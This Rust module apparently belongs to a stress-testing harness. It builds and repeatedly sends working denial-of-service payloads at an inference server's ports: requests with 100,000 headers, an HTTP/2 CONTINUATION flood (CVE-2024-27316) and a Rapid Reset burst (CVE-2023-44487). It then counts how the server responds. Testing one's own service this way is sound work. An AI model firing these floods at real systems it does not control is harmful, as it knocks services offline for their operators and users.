//! Heads without end, and calls that are taken back before anybody can answer them.

use std::fmt::Write as _;
use std::rc::Rc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::attack::{Orders, repeat};
use super::{frames, peers};

const CONNECTIONS: usize = 10;
/// Heads a second, each of a hundred thousand headers and 1.3 MB.
const HEADS: f64 = 100.0;
/// Floods a second, each of up to 8 MB.
const FLOODS: f64 = 50.0;
/// Bursts a second, each of a thousand calls.
const BURSTS: f64 = 20.0;
const CALLS: u32 = 1000;

/// To all three ports; on that of gRPC it is not even the protocol.
pub async fn many(orders: &Orders) {
    let mut head = "GET /readyz HTTP/1.1\r\nHost: localhost\r\n".to_owned();
    for number in 0..100_000 {
        let _ = write!(head, "x-{number}: 1\r\n");
    }
    head.push_str("\r\n");
    let head = Rc::<[u8]>::from(head.as_bytes());
    let all = orders.clone();
    repeat(orders, CONNECTIONS, HEADS, move |task, turn| {
        let (orders, head) = (all.clone(), Rc::clone(&head));
        let to = [orders.http, orders.metrics, orders.grpc][(turn % 3) as usize];
        async move {
            let Ok(stream) = peers::connect(to, task).await else { return };
            let answer = peers::answer(stream, &head).await;
            orders.counts.add(&answer, 1);
        }
    })
    .await;
}

/// A head that goes on in frame after frame and never ends (CVE-2024-27316 and its kin).
pub async fn continuations(orders: &Orders) {
    let mut more = Vec::new();
    while more.len() < frames::LARGEST - 32 {
        frames::literal(&mut more, "x", "123456789012");
    }
    let head = frames::call("/inference.GRPCInferenceService/ModelInfer", &[]);
    let mut bytes = frames::opening();
    bytes.extend(frames::frame(frames::HEADERS, 0, 1, &head));
    let frame = frames::frame(frames::CONTINUATION, 0, 1, &more);
    for _ in 0..512 {
        bytes.extend_from_slice(&frame);
    }
    send(orders, FLOODS, bytes).await;
}

/// Calls that are reset right away (CVE-2023-44487).
pub async fn rapid_reset(orders: &Orders) {
    let head = frames::call("/inference.GRPCInferenceService/ModelInfer", &[]);
    let mut bytes = frames::opening();
    for call in 0..CALLS {
        let stream = 2 * call + 1;
        bytes.extend(frames::frame(frames::HEADERS, frames::END_HEADERS, stream, &head));
        // CANCEL.
        bytes.extend(frames::frame(frames::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    }
    send(orders, BURSTS, bytes).await;
}

/// The same bytes over and over, each time on a new connection, until the server ends it.
async fn send(orders: &Orders, rate: f64, bytes: Vec<u8>) {
    let bytes = Rc::<[u8]>::from(bytes);
    let all = orders.clone();
    repeat(orders, CONNECTIONS, rate, move |task, _| {
        let (orders, bytes) = (all.clone(), Rc::clone(&bytes));
        async move {
            let ending = flood(&orders, task, &bytes).await;
            orders.counts.add(ending, 1);
        }
    })
    .await;
}

/// How the server took it.
async fn flood(orders: &Orders, task: usize, bytes: &[u8]) -> &'static str {
    let Ok(mut stream) = peers::connect(orders.grpc, task).await else { return "not connected" };
    let (mut reader, mut writer) = stream.split();
    let reading = async {
        let mut seen = Vec::new();
        let mut chunk = [0; 4096];
        while let Ok(read @ 1..) = reader.read(&mut chunk).await {
            seen.extend_from_slice(&chunk[..read]);
        }
        if frames::has(&seen, frames::GOAWAY) { "told to go away" } else { "closed" }
    };
    let writing = async {
        let sent = writer.write_all(bytes).await;
        // A server that has closed is seen by the reader, which knows what it said first.
        let pause = if sent.is_ok() { 1000 } else { 100 };
        tokio::time::sleep(std::time::Duration::from_millis(pause)).await;
    };
    tokio::select! { seen = reading => seen, () = writing => "taken" }
}
